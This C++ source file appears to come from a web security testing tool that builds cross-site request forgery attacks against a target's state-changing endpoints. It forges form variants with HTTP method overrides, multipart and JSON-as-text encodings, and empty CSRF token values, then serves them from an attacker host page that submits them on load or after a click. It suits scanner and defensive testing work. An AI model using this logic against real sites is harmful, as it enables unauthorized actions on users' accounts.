#include "core/attack/forged_forms.h"

#include "core/attack/own_form.h"

namespace parapet::attack {
namespace {

bool has_a_page(Target const& target, Endpoint const& endpoint) {
    for (Endpoint const& each : target.surface().endpoints)
        if (each.method == "GET" && each.path == endpoint.path) return true;
    return false;
}

void add_forgeries(std::vector<ForgedForm>& to, Target const& target, Endpoint const& endpoint,
                   OwnForm const& own) {
    std::string action = address_of(target, endpoint);
    std::string otherwise = address_otherwise(target, endpoint);
    auto fields = wanted_fields(endpoint);
    if (endpoint.method != "POST") {
        // Frameworks read the method from a field or from the query.
        action += "?_method=" + endpoint.method;
        otherwise += "&_method=" + endpoint.method;
        fields.push_back({"_method", endpoint.method});
    }
    to.push_back({.action = action, .fields = fields});
    to.push_back({.action = otherwise, .fields = fields});
    to.push_back({.action = action, .enctype = std::string(kMultipart), .fields = fields});
    to.push_back(json_as_text(action, fields));
    for (ForgedForm& each : moved_forms(target, endpoint, own)) to.push_back(std::move(each));
    if (endpoint.method == "POST" && has_a_page(target, endpoint)) {
        // To a check it is a GET, and to a careless handler the form.
        auto as_get = fields;
        as_get.push_back({"_method", "GET"});
        to.push_back({.action = action, .fields = as_get});
    }
    auto with_empty = fields;
    for (http::QueryPair const& token : own.tokens) with_empty.push_back({token.name, ""});
    if (own.tokens.empty()) return;
    to.push_back({.action = action, .fields = with_empty});
    to.push_back(json_as_text(action, with_empty));
}

}  // namespace

std::vector<ForgedForm> forged_forms(Target& target) {
    std::vector<ForgedForm> forgeries;
    std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
    std::vector<OwnForm> const own = look_at_forms(target, endpoints, As::Attacker);
    for (std::size_t i = 0; i < endpoints.size(); ++i)
        add_forgeries(forgeries, target, *endpoints[i], own[i]);
    return forgeries;
}

void victim_submits(Target& target, OwnHost& host, std::vector<ForgedForm> const& forgeries) {
    Lure lure(target, host);
    for (ForgedForm const& each : forgeries) lure.show(submitting(each));
    // Some take a click for the person's own will (Sec-Fetch-User).
    if (!forgeries.empty()) lure.show_to_click(forgeries.front());
    target.note("A page on " + host.name() + " submitted forms to " + target.surface().host +
                " as soon as it was opened.");
}

}  // namespace parapet::attack
